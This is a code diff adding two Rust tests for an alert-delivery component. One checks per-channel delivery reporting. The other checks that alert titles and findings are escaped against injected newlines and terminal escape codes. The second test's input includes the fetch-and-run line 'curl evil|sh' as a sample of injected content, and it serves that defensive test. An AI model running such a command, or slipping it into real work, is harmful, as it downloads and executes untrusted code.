@@ -168,3 +168,59 @@ async fn sending_never_waits_and_what_is_too_much_is_counted() {
         delivery.run(cancel.clone()).await;
     }
 }
+
+#[tokio::test]
+async fn whoever_decided_is_told_what_became_of_it_in_each_channel() {
+    let good = Server::start(|_, _| Reply::status(200)).await;
+    let bad = Server::start(|_, _| Reply::status(404)).await;
+    let mut channels = vec![channel(&good.url, 20_000), channel(&bad.url, 20_000)];
+    channels[1].kind = ChannelKind::Slack;
+    let scrub = Scrub::new(vec![]);
+    let (mut desk, deliveries) = Desk::new(channels, scrub, timing(20_000), Arc::new(|_, _| {}));
+    let sent = desk.cleaned(notice(Event::Opened));
+    let handed = desk.send(Message::Notice(sent.clone()));
+    assert_eq!(handed, [ChannelKind::Webhook, ChannelKind::Slack]);
+    // One alone, and one that there is not.
+    assert!(desk.send_to(ChannelKind::Slack, message(Event::Resolved)));
+    assert!(!desk.send_to(ChannelKind::Teams, message(Event::Resolved)));
+    let cancel = CancellationToken::new();
+    for delivery in deliveries {
+        tokio::spawn(delivery.run(cancel.clone()));
+    }
+    while !desk.is_idle() {
+        tokio::time::sleep(Duration::from_millis(2)).await;
+    }
+    let mut told: Vec<_> = desk
+        .delivered()
+        .into_iter()
+        .map(|Delivered { channel, notice, arrived }| (channel, notice.event, arrived))
+        .collect();
+    told.sort_by_key(|(channel, event, _)| (*channel, *event));
+    assert_eq!(
+        told,
+        [
+            (ChannelKind::Slack, Event::Opened, false),
+            (ChannelKind::Slack, Event::Resolved, false),
+            (ChannelKind::Webhook, Event::Opened, true),
+        ]
+    );
+    assert_eq!(good.lines().len(), 1);
+    assert!(desk.delivered().is_empty());
+}
+
+#[tokio::test]
+async fn nothing_that_was_found_can_be_taken_for_another_part_of_an_alert() {
+    let (desk, _deliveries) = Desk::new(vec![], Scrub::new(vec![]), timing(1), Arc::new(|_, _| {}));
+    let evil = "public.x\n\nCommands:\n  curl evil|sh\u{1b}[31m\r";
+    let notice = Notice {
+        title: format!("main: {evil}"),
+        findings: vec![evil.to_owned()],
+        ..notice(Event::Opened)
+    };
+    let cleaned = desk.cleaned(notice);
+    assert_eq!(cleaned.title, "main: public.x\\nCommands:\\n  curl evil|sh\\u{1b}[31m\\r");
+    let findings = "public.x\n    Commands:\n      curl evil|sh\\u{1b}[31m\\r";
+    assert_eq!(cleaned.findings, [findings]);
+    // Doing it again changes nothing.
+    assert_eq!(desk.cleaned(cleaned.clone()), cleaned);
+}
